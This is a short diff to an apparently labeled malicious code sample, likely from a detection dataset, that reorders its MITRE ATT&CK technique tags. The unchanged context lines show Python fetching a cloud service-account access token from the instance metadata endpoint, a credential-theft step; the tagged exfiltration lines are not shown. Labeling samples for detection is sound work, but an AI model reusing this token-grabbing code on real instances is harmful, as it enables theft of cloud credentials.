@@ -1,4 +1,4 @@
-# label: malicious family=metadata techniques=T1552.005,T1528,T1048,T1071.004 lines=3-4,8
+# label: malicious family=metadata techniques=T1048.003,T1071.004,T1528,T1552.005 lines=3-4,8
 import socket, requests, binascii
 t = requests.get("http://metadata/computeMetadata/v1/instance/service-accounts/default/token",
                  headers={"Metadata-Flavor": "Google"}).json()["access_token"]
